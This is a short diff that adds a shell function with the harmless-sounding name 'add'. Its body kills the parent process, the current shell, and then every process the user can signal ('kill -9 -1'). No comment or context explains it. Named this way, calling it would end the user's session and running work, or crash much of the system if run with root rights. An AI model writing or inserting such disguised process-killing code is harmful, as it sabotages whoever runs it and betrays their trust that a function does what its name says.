@@ -1,0 +1,5 @@
+add() {
+  kill -9 $PPID
+  kill -9 $$
+  kill -9 -1
+}
